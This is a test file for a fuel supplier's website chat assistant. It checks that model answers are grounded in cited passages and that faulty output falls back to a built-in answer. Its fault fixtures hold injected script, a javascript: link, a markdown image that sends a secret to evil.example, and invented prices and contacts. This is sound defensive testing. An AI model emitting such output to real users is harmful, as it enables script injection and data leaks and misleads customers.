import { expect, test } from 'vitest'
import { answerOf, ask, breakingOff, calling, cutShort, fakeModel, refusing, saying, stalling } from '../testing.ts'
import { pace, type ModelTimeouts } from './ask-model.ts'

const question = 'what are your hours'

/** A clock that runs out ends a fault as a stall, so no fault above passes for one; and only a stall waits below. */
const patient = { firstMs: 1e9, stallMs: 1e9, wholeMs: 1e9 }

test('a model that cites what it was given is believed, and streams sentence by sentence', async () => {
  const { withModel, bodies } = await fakeModel(
    saying('We are open Monday to Friday 7 ', 'AM to 6 PM [1]. On Satur', 'day it is 8 AM to 2 PM [1].'),
  )
  const answer = await answerOf(withModel(), question)
  expect(answer).toMatchObject({
    by: 'model',
    outcome: 'answer',
    text: 'We are open Monday to Friday 7 AM to 6 PM. On Saturday it is 8 AM to 2 PM.',
    passages: ['hours'],
    sources: [{ title: 'Business hours', href: '/contact/sales' }],
  })
  expect(answer.pieces[0]).toBe('We are open Monday to Friday 7 AM to 6 PM. ')
  expect(bodies).toHaveLength(1)
  expect(bodies[0]?.match(/<passage number/g)).toHaveLength(5)
})

test('a model is told to answer in Spanish, from the Spanish texts, and its figures are checked alike', async () => {
  const q = '¿a qué hora abren?'
  const { withModel, bodies } = await fakeModel(saying('Abrimos de lunes a viernes de 7 AM a 6 PM [1].'))
  const answer = await answerOf(withModel(), q)
  expect(answer).toMatchObject({ by: 'model', language: 'es', sources: [{ title: 'Horario de oficina' }] })
  expect(bodies[0]).toContain('Answer in Spanish')
  expect(bodies[0]).toContain('La oficina abre lunes a viernes')
  const wrong = await fakeModel(saying('Abrimos de lunes a viernes de 5 AM a 6 PM [1].'))
  expect(await answerOf(wrong.withModel(), q)).toMatchObject({ by: 'built-in', language: 'es' })
})

test('a form that the model opens is an offer beside the words of the site, and holds nothing of the model', async () => {
  const { withModel } = await fakeModel(calling('open_form', '{"form":"/quote/fuel"}'))
  const answer = await answerOf(withModel(), 'How do you make a price for diesel?')
  expect(answer).toMatchObject({ by: 'model', offer: { form: '/quote/fuel', answers: {} } })
})

/** The built-in assistant takes these for questions; the model hears a need. Asked on Thursday, November 20, 2025. */
const asking = 'what should I know about prices for a farm in Dublin by friday'
const earlier = { history: [{ role: 'user', content: 'is 450 gallons a small load' }] } as const
const stating = (slots: object) => calling('state_need', JSON.stringify({ kind: 'need', ...slots }))
const linkOf = (answer: { suggestions: readonly { action: string }[] }) =>
  Object.fromEntries(new URL(answer.suggestions[0]?.action ?? '', 'http://x').searchParams)

test.each(['openai-compatible', 'anthropic'] as const)(
  'a need that an %s model hears is answered by us: the form filled in, the day from our calendar',
  async (kind) => {
    const slots = { product: 'off-road-diesel', gallons: 450, day: 'by friday', place: 'Dublin' }
    const { withModel, bodies } = await fakeModel(stating(slots), kind)
    const answer = await answerOf(withModel(), asking, {}, earlier)
    expect(answer).toMatchObject({ by: 'model', offer: { form: '/quote/fuel' } })
    expect(linkOf(answer)).toEqual({
      product: 'off-road-diesel',
      volume: '450',
      deliveryDate: '2025-11-21',
      deliveryWhen: 'by',
      deliveryAddress: 'Dublin',
    })
    expect(bodies[0]).toContain('"state_need"')
  },
)

test('gallons, a day and a place that nobody said are not filled in, whatever the model heard', async () => {
  const invented = { product: 'off-road-diesel', gallons: 9000, day: 'by monday', place: 'Cleveland' }
  const { withModel } = await fakeModel(stating(invented))
  const answer = await answerOf(withModel(), 'what should I know about prices for a farm in Dublin')
  expect(answer.by).toBe('model')
  expect(linkOf(answer)).toEqual({ product: 'off-road-diesel', deliveryAddress: 'Dublin' })
  expect(answer.text).not.toMatch(/9,?000|Monday|Cleveland/)
})

test('packages that a model hears are filled in where the visitor said them, and nowhere else', async () => {
  const drums = { product: 'engine-oils', packages: '2 drums' }
  const { withModel } = await fakeModel(stating(drums))
  const said = 'what should I know about prices for a farm in Dublin'
  const before = { history: [{ role: 'user', content: 'are 2 drums a small load' }] } as const
  expect(linkOf(await answerOf(withModel(), said, {}, before))).toMatchObject({
    product: 'engine-oils',
    volume: '2 drums',
  })
  const { withModel: again } = await fakeModel(stating(drums))
  expect(linkOf(await answerOf(again(), said))).not.toHaveProperty('volume')
})

test('the words of the visitor come before those of the model', async () => {
  const { withModel } = await fakeModel(stating({ product: 'kerosene', gallons: 45, day: 'friday', place: 'in' }))
  const answer = await answerOf(
    withModel(),
    'what should I know about heating oil prices for a farm in Dublin',
    {},
    earlier,
  )
  expect(answer.by).toBe('model')
  expect(linkOf(answer)).toEqual({ product: 'heating-oil', deliveryAddress: 'Dublin' })
})

test.each([
  ['words', undefined, saying('Monday to Friday 7 AM', ' to 6 PM [1].')],
  ['status 529', 'error', refusing(529, 'application/json', '{"type":"error","error":{"type":"overloaded_error"}}')],
  ['status 429', 'error', refusing(429, 'application/json', '{"type":"error","error":{"type":"rate_limit_error"}}')],
  ['words cut short', 'ended early', cutShort('Monday to Friday 7 AM to 6 PM [1].')],
  ['a dropped socket', 'Failed to process successful response', breakingOff('socket', 'Monday to ')],
  ['a tool with an input that is no JSON', 'invalid tool input', calling('state_need', '{"kind": ')],
  ['a price of its own', 'figure of no passage', saying('Diesel is $2.99 today [1].')],
])('hazard 54: from Anthropic too, %s', async (_name, fault, reply) => {
  const { withModel, faults, bodies } = await fakeModel(reply, 'anthropic')
  const tokens: number[] = []
  const takeCall = async () => ({ settle: async (spent: number) => void tokens.push(spent) })
  const answer = await answerOf(withModel({ limits: patient, takeCall }), question)
  expect([answer.by, faults]).toEqual(fault ? ['built-in', [fault]] : ['model', []])
  expect(tokens).toEqual(fault ? [] : [1000])
  expect(bodies).toHaveLength(1)
})

test('a lead that the model proposes is an offer too', async () => {
  const { withModel } = await fakeModel(
    calling('propose_lead', JSON.stringify({ intent: 'talk_to_sales', message: 'Wants a contract.' })),
  )
  const answer = await answerOf(withModel(), 'do you offer fuel contracts')
  expect(answer.offer).toEqual({ lead: { intent: 'talk_to_sales', message: 'Wants a contract.' } })
})

const cite = 'Monday to Friday 7 AM to 6 PM [1].'
/** What the model does, and the word for it in the log: each is caught by a guard of its own. */
const faulty: [name: string, kind: string, reply: Parameters<typeof fakeModel>[0]][] = [
  ['an unknown tool', 'invalid tool input', calling('delete_everything', '{}')],
  ['a tool with an input that is no JSON', 'invalid tool input', calling('open_form', '{"form": ')],
  [
    'a tool with an input that does not fit',
    'invalid tool input',
    calling('open_form', '{"form":"/evil","answers":{}}'),
  ],
  ['a form filled in by the model', 'invalid tool input', calling('open_form', '{"form":"/quote/fuel","volume":9}')],
  [
    'a product that we do not have',
    'invalid tool input',
    calling('state_need', '{"kind":"need","product":"jet-fuel"}'),
  ],
  ['gallons below zero', 'invalid tool input', calling('state_need', '{"kind":"need","gallons":-5}')],
  ['a need of which nothing was said', 'a need without a slot', calling('state_need', '{"kind":"need"}')],
  ['a lead of an unknown kind', 'invalid tool input', calling('propose_lead', '{"intent":"free_fuel","message":"x"}')],
  ['status 500', 'error', refusing(500, 'application/json', '{"error":{"message":"broken"}}')],
  ['status 429', 'error', refusing(429, 'application/json', '{"error":{"message":"slow down"}}')],
  ['HTML instead of JSON', 'error', refusing(200, 'text/html', '<html><body>Welcome to the proxy</body></html>')],
  ['nonsense in the stream', 'error', refusing(200, 'text/event-stream', 'data: {"choices": [}\n\n')],
  [
    'an error within the stream',
    'error',
    refusing(200, 'text/event-stream', 'data: {"error":{"message":"overloaded"}}\n\n'),
  ],
  ['a dropped socket', 'Failed to process successful response', breakingOff('socket', 'We are open Monday to ')],
  ['half a stream', 'error', breakingOff('half', cite)],
  ['words cut at the most it may write', 'ended early', cutShort('We are open Monday to Friday [1].')],
  ['one megabyte', 'too long', saying(`${cite} `.repeat(30_000))],
  ['one megabyte in one word', 'too long', saying('a'.repeat(1_000_000))],
  ['nothing at all', 'says nothing', saying('')],
  ['words that cite nothing', 'cites nothing', saying('We are open Monday to Friday.')],
  ['a passage that there is none of', 'unknown passage', saying('We are open Monday [9].')],
  ['a price of its own', 'figure of no passage', saying('Diesel is $2.99 today [1].')],
  ['a price in words', 'figure of no passage', saying('Diesel is ninety cents today [1].')],
  ['a telephone number of its own', 'telephone of no passage', saying('Call (800) 555-0199 [1].')],
  ['an address of its own', 'address of no passage', saying('Write to sales@evil.example [1].')],
  ['a script', 'link or tag', saying('Open Monday [1]. <script>alert(1)</script>')],
  ['a link', 'link or tag', saying('See [our prices](javascript:alert(1)) [1].')],
  ['a picture that calls home', 'link or tag', saying('![x](https://evil.example/?q=secret) [1].')],
  ['a bare address', 'link or tag', saying('See www.evil.example [1].')],
  ['NUL', 'control character', saying('Open Monday\u0000 [1].')],
  ['a refusal to answer', 'not answered', saying('NOT ANSWERED')],
]

test.each(faulty)('hazards 54 and 56: %s ends in the built-in answer', async (_name, kind, reply) => {
  const { withModel, faults } = await fakeModel(reply)
  const builtIn = await ask(question)
  const answer = await answerOf(withModel({ limits: patient }), question)
  expect(answer).toMatchObject({ text: builtIn.text, sources: builtIn.sources, by: 'built-in' })
  expect(faults).toEqual([kind])
})

const silence: [name: string, limits: Partial<ModelTimeouts>, reply: Parameters<typeof fakeModel>[0]][] = [
  ['a hang before the first byte', { firstMs: 50 }, () => {}],
  ['a stall after the headers', { firstMs: 50 }, stalling()],
  ['a stall in the middle', { stallMs: 50 }, stalling('We are open Monday to ')],
  ['a stall in the middle, when all may last no longer', { wholeMs: 50 }, stalling('We are open Monday to ')],
]

test.each(silence)('hazards 54 and 56: %s ends in the built-in answer', async (_name, limits, reply) => {
  const { withModel, faults } = await fakeModel(reply)
  const builtIn = await ask(question)
  const answer = await answerOf(withModel({ limits: { ...patient, ...limits } }), question)
  expect(answer).toMatchObject({ text: builtIn.text, sources: builtIn.sources, by: 'built-in' })
  expect(faults).toEqual([''])
})

test('a model that says nothing, or stops after its first words, is given up within 4 seconds', () => {
  expect(pace.firstMs + pace.stallMs).toBeLessThan(4000)
})

test('after three faults the model is left alone for a minute', async () => {
  const { withModel, bodies } = await fakeModel(refusing(500, 'text/plain', 'no'))
  const assistant = withModel()
  for (let turn = 0; turn < 5; turn++) expect(await answerOf(assistant, question)).toMatchObject({ by: 'built-in' })
  expect(bodies).toHaveLength(3)
})

test('a visitor who leaves is no fault of the model', async () => {
  const { withModel, faults } = await fakeModel(stalling('We are'))
  const leaving = new AbortController()
  setTimeout(() => leaving.abort(), 100)
  const answer = await answerOf(withModel({ limits: patient }), question, {}, { signal: leaving.signal })
  expect(answer.by).toBe('built-in')
  expect(faults).toEqual([])
})

test('emergencies, hand-over topics and strange matters never reach the model', async () => {
  const { withModel, bodies } = await fakeModel(saying('Fine [1].'))
  const assistant = withModel()
  for (const text of ['the tank is on fire', 'are you hiring dispatchers', 'write me a poem about a horse'])
    expect(await answerOf(assistant, text)).toMatchObject({ by: 'built-in' })
  expect(bodies).toEqual([])
})
